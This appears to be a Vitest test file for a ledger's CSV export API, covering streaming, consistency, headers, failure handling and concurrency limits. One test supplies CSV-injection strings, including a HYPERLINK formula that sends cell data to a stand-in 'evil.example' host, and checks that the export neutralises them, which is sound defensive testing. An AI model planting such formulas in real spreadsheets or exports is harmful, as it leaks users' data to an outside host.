import { connect } from "node:net";
import type { Db } from "@ducat/db/connect";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fillLedger } from "../../test/fill-ledger.ts";
import { parseCsv, readCsv } from "../../test/parse-csv.ts";
import { eventually, rootKey, type Stage, setStage } from "../../test/stage.ts";
import { createApp } from "../app.ts";
import { type RunningServer, startServer } from "../server.ts";
import { streamText } from "../stream-text.ts";

let stage: Stage;
beforeAll(async () => {
  stage = await setStage();
});
afterAll(() => stage.close());

const path = "/v1/credits/transactions";
const headersOf = (account?: string) => ({
  authorization: `Bearer ${rootKey}`,
  accept: "text/csv",
  ...(account !== undefined && { "ducat-account": account }),
});
const open = async (account: string, app = stage.app) =>
  await app.request(path, { headers: headersOf(account) });

/** The stage's database, which counts what is begun on it, and breaks when it is told to. */
function watchDatabase() {
  const seen: {
    reads: number;
    breaksAfter: number;
    /** Whoever comes as the so-manieth waits. */
    gate?: { after: number; open: Promise<void> } | undefined;
  } = { reads: 0, breaksAfter: Number.POSITIVE_INFINITY };
  const db = new Proxy(stage.deps.db, {
    get(target, name) {
      const value = Reflect.get(target, name);
      if (name !== "begin") return typeof value === "function" ? value.bind(target) : value;
      return (...args: unknown[]) => {
        seen.reads += 1;
        if (seen.reads > seen.breaksAfter) return Promise.reject(new Error("a cable was cut"));
        const isHeld = seen.reads === seen.gate?.after;
        return isHeld
          ? seen.gate?.open.then(() => value.apply(target, args))
          : value.apply(target, args);
      };
    },
  }) as Db;
  return { seen, db };
}

async function makeLedger(lines: number): Promise<string> {
  const account = await stage.makeAccount();
  await fillLedger(stage.db, account, lines / 2);
  return account;
}

describe("a ledger as CSV", () => {
  it("has each of 50,000 lines once, a thousand at a time, read when they are wanted", async () => {
    const account = await makeLedger(50_000);
    const { seen, db } = watchDatabase();
    const answer = await open(account, createApp({ ...stage.deps, db }));
    const begun = seen.reads;
    const reader = answer.body?.getReader();
    let text = "";
    let [mostRows, mostReads] = [0, 0];
    for (;;) {
      const before = seen.reads;
      const { done, value } = (await reader?.read()) ?? { done: true };
      mostReads = Math.max(mostReads, seen.reads - before);
      if (done) break;
      const part = Buffer.from(value ?? []).toString();
      mostRows = Math.max(mostRows, part.split("\r\n").length - 1);
      text += part;
    }
    expect([begun, mostRows, mostReads]).toEqual([1, 1_000, 1]);
    expect(seen.reads).toBe(51);
    const ids = readCsv(text).map(({ id = "" }) => Number(id.split(".")[1]));
    expect(ids).toEqual(Array.from({ length: 50_001 }, (_, at) => 50_001 - at));
  });

  it("is what there was when it began, however much comes in meanwhile", async () => {
    const account = await makeLedger(3_000);
    const reader = (await open(account)).body?.getReader();
    const first = await reader?.read();
    await fillLedger(stage.db, account, 500);
    let text = Buffer.from(first?.value ?? []).toString();
    for (;;) {
      const { done, value } = (await reader?.read()) ?? { done: true };
      if (done) break;
      text += Buffer.from(value).toString();
    }
    const rows = readCsv(text);
    expect([rows.length, rows[0]?.id, rows.at(-1)?.id]).toEqual([
      3_001,
      `${account}.3001`,
      `${account}.1`,
    ]);
    expect(rows.reduce((sum, row) => sum + Number(row.amount), 0)).toBe(3);
  });

  it("says what it is, and is saved under a name of ours", async () => {
    const account = await stage.makeAccount();
    const answer = await stage.call(`${path}?bom=true`, { account, headers: headersOf() });
    expect(answer.status).toBe(200);
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(answer.headers.get("content-disposition")).toBe(
      'attachment; filename="credit-transactions.csv"',
    );
    expect(answer.headers.get("vary")).toBe("Accept");
    expect(answer.headers.get("cache-control")).toBe("no-store");
    const plain = await stage.call(path, { account, headers: headersOf() });
    expect(plain.text.split("\r\n")[0]).toBe(
      "id,created_at,type,amount,balance_after,description,generation_id,payment_id",
    );
    const bytes = async (query: string) =>
      Buffer.from(
        await (
          await stage.app.request(path + query, { headers: headersOf(account) })
        ).arrayBuffer(),
      );
    const [marked, unmarked] = [await bytes("?bom=true"), await bytes("?bom=false")];
    expect(marked.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(marked.subarray(3)).toEqual(unmarked);
    const json = await stage.call(path, { account });
    expect([json.headers.get("vary"), json.body.data.length]).toEqual(["Accept", 1]);
  });

  it("keeps hostile texts as texts, negative numbers as numbers, and lines apart", async () => {
    const account = await stage.makeAccount(100);
    const texts = [
      '=HYPERLINK("http://evil.example?"&A1,"open")',
      "+1",
      "-2",
      "@x",
      "＝1+1",
      "＋1",
      "－1",
      "＠1",
      "\tx",
      "\rx",
      "\nx",
      'a "quoted", text',
      "two\r\nlines, =1",
      "two\n=1+1",
      "a;=1+1",
      '";=1+1;"',
      " =1+1",
      "سلام، دنیا",
      "\u202e=1",
      "\ufeff@x",
      "a,b",
      "'",
    ];
    for (const [at, description] of texts.entries()) {
      const body = { amount: 1, description };
      const spent = await stage.call("/v1/credits/consume", { account, body, key: `k${at}` });
      expect(spent.status).toBe(201);
    }
    const { text } = await stage.call(path, { account, headers: headersOf() });
    const rows = readCsv(text).slice(0, texts.length).reverse();
    for (const [at, row] of rows.entries()) {
      expect(row.amount).toBe("-1");
      const cell = row.description ?? "";
      expect(cell.replaceAll("'", "")).toBe(texts[at]?.replaceAll("'", ""));
      expect(cell).not.toMatch(/^[\s\p{C}"]*[=+\-@＝＋－＠]/u);
      expect(cell).not.toMatch(/^[\t\r\n]/);
    }
    // A spreadsheet that ends cells elsewhere begins no formula either.
    for (const line of text.split(/[\r\n]+/)) {
      for (const cell of line.split(/[;\t|]/)) expect(cell).not.toMatch(/^["\s]*[=+@＝＋－＠]/);
    }
  });

  it("is a header and no more where nothing fits", async () => {
    const account = await makeLedger(2_500);
    const query = "?text=nowhere";
    const { status, text } = await stage.call(path + query, { account, headers: headersOf() });
    expect([status, parseCsv(text).length]).toEqual([200, 1]);
  });
});

describe("an export over the network", () => {
  let server: RunningServer;
  let watch: ReturnType<typeof watchDatabase>;
  beforeAll(async () => {
    watch = watchDatabase();
    const app = createApp({ ...stage.deps, db: watch.db });
    server = await startServer(app, { host: "127.0.0.1", port: 0 });
  });
  afterAll(() => server.close(1_000));

  const ask = (account: string, { query = "", ...init }: RequestInit & { query?: string } = {}) =>
    fetch(`http://127.0.0.1:${server.port}${path}${query}`, {
      headers: headersOf(account),
      ...init,
    });
  /** The bytes of an answer until the connection is closed. */
  const readBytes = (account: string) =>
    new Promise<string>((resolve) => {
      const socket = connect(server.port, "127.0.0.1");
      let text = "";
      socket.setEncoding("latin1").on("data", (part) => {
        text += part;
      });
      socket.on("error", () => undefined).on("close", () => resolve(text));
      const lines = Object.entries(headersOf(account)).map(([name, value]) => `${name}: ${value}`);
      socket.write(`GET ${path} HTTP/1.1\r\nhost: x\r\n${lines.join("\r\n")}\r\n\r\n`);
    });
  const breaksOff = (account: string) =>
    eventually(() => {
      const line = stage.lines.findLast((one) => one.includes("an export broke off"));
      expect(JSON.parse(line ?? "{}")).toMatchObject({ account });
      return JSON.parse(line ?? "{}");
    });

  it.each([2, 5])("that fails after %s chunks can't be taken for a whole one", async (chunks) => {
    const account = await makeLedger(8_000);
    const cut = () => {
      watch.seen.breaksAfter = watch.seen.reads + chunks;
    };
    cut();
    const bytes = await readBytes(account);
    expect(bytes).toMatch(/^HTTP\/1.1 200 /);
    expect(bytes).not.toContain("\r\n0\r\n\r\n");
    expect(bytes).not.toContain("cable");
    expect((await breaksOff(account)).err.message).toBe("a cable was cut");
    cut();
    await expect(ask(account).then((answer) => answer.text())).rejects.toThrow();
    watch.seen.breaksAfter = Number.POSITIVE_INFINITY;
    expect(parseCsv(await (await ask(account)).text())).toHaveLength(8_002);
  });

  it("that fails before its first byte is a problem document", async () => {
    const account = await stage.makeAccount();
    watch.seen.breaksAfter = watch.seen.reads;
    const answer = await ask(account);
    watch.seen.breaksAfter = Number.POSITIVE_INFINITY;
    expect([answer.status, answer.headers.get("content-type")]).toEqual([
      500,
      "application/problem+json",
    ]);
    expect((await ask(account)).status).toBe(200);
  });

  it("reads no more for who went away, also where it has found nothing yet", async () => {
    const account = await makeLedger(8_000);
    let release = () => {};
    const open = new Promise<void>((resolve) => {
      release = resolve;
    });
    const client = new AbortController();
    watch.seen.gate = { after: watch.seen.reads + 4, open };
    const answer = await ask(account, { query: "?text=nowhere", signal: client.signal });
    await answer.body?.getReader().read();
    await eventually(() => expect(watch.seen.reads).toBe(watch.seen.gate?.after));
    const { reads } = watch.seen;
    client.abort();
    expect((await breaksOff(account)).err.message).toContain("went away");
    // Its place is free before its last read has ended.
    const next = await ask(account, { method: "HEAD" });
    expect(next.status).toBe(200);
    watch.seen.gate = undefined;
    release();
    expect((await (await ask(account)).text()).length).toBeGreaterThan(400_000);
    expect(watch.seen.reads - reads).toBeLessThanOrEqual(9);
  });
});

describe("places for exports", () => {
  const close = async (answers: Response[]) => {
    for (const { body } of answers) await body?.cancel();
  };

  it("are one for an account and four for all of them", async () => {
    const accounts = await Promise.all([1, 2, 3, 4, 5].map(() => stage.makeAccount()));
    const [one = "", two = "", three = "", four = "", five = ""] = accounts;
    const running: Response[] = [];
    for (const account of [one, two, three, four]) running.push(await open(account));
    const again = await stage.call(path, { account: one, headers: headersOf() });
    expect([again.status, again.body.code]).toEqual([429, "rate_limited"]);
    const late = await stage.call(path, { account: five, headers: headersOf() });
    expect([late.status, late.body.reason, late.headers.get("retry-after")]).toEqual([
      ...[503, "busy", "5"],
    ]);
    const admin = await stage.app.request("/v1/admin/accounts", { headers: headersOf() });
    expect(admin.status).toBe(200);
    await close([...running, admin]);
    for (const account of accounts) running.push(await open(account).then(drained));
    expect(running.slice(4).every(({ status }) => status === 200)).toBe(true);
  });

  it("are two for admins, apart from those of accounts", async () => {
    const ask = async (list: string) =>
      await stage.app.request(`/v1/admin/${list}`, { headers: headersOf() });
    const running = [await ask("payments"), await ask("audit-logs")];
    const late = await ask("generations");
    expect([late.status, await late.json()]).toMatchObject([503, { reason: "busy" }]);
    const account = await open(await stage.makeAccount());
    expect(account.status).toBe(200);
    await close([...running, account]);
    expect((await ask("generations").then(drained)).status).toBe(200);
  });

  it("are not taken by HEAD, nor by what is refused", async () => {
    const account = await stage.makeAccount();
    for (let round = 0; round < 5; round++) {
      const head = await stage.app.request(path, { method: "HEAD", headers: headersOf(account) });
      expect([head.status, head.headers.get("content-type"), await head.text()]).toEqual([
        200,
        "text/csv; charset=utf-8; header=present",
        "",
      ]);
      const refused = await stage.call(`${path}?from=x`, { account, headers: headersOf() });
      expect(refused.status).toBe(422);
    }
    expect((await open(account).then(drained)).status).toBe(200);
  });

  const drained = async (answer: Response) => {
    await answer.text();
    return answer;
  };
});

describe("a stream of texts", () => {
  async function* write() {
    for (;;) yield "x";
  }

  // Takes nothing more, and takes too long for all of it.
  it.each([{ idleMs: 20 }, { lifeMs: 20 }])("drops a reader that is late: %j", async (times) => {
    const ends: unknown[] = [];
    const onEnd = (error?: unknown) => ends.push(error);
    const stream = streamText(write(), { onEnd, outgoing: undefined, ...times });
    const reader = stream.getReader();
    await reader.read();
    await expect(reader.closed).rejects.toThrow("not read in time");
    expect(ends).toHaveLength(1);
  });
});
